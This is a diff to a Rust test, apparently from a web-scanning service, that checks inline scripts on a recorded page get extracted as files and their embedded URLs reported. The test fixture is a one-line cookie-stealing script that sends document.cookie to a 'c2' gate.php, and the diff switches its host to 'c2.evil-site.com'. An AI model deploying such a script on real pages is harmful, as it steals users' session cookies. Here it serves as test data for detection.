@@ -269,7 +269,7 @@ async fn several_urls_at_once_cost_a_request_each() {
 #[tokio::test]
 async fn the_scripts_that_stand_in_a_page_become_files_and_lead_to_it() {
     const PAGE: &str = "https://scripts.site.example/";
-    let script = "var c2 = 'http://c2.site.example/gate.php'; document.location = c2 + '?' + document.cookie;";
+    let script = "var c2 = 'http://c2.evil-site.com/gate.php'; document.location = c2 + '?' + document.cookie;";
     let body = format!("<html><script>{script}</script><script>{script}</script><script>tiny()</script></html>");
     let hops = vec![hop(PAGE, 200, &[("content-type", "text/html")])];
     let web = Recorded::default().with(&url(PAGE), Fetched { hops, body: Bytes::from(body), unfinished: None });
@@ -292,6 +292,6 @@ async fn the_scripts_that_stand_in_a_page_become_files_and_lead_to_it() {
     let said = serde_json::json!([context["url"], context["filename"], context["embedded"], context["download_url"]]);
     assert_eq!(said, serde_json::json!([PAGE, "inline-1.js", true, PAGE]));
     let named = service.get(&format!("/files/{file}/embedded_urls"), &key).await.json;
-    assert_eq!(named["data"][0]["context_attributes"]["url"], "http://c2.site.example/gate.php");
+    assert_eq!(named["data"][0]["context_attributes"]["url"], "http://c2.evil-site.com/gate.php");
     assert_eq!(service.get(&format!("/urls/{id}/embedded_js_files"), &public).await.status, 403);
 }
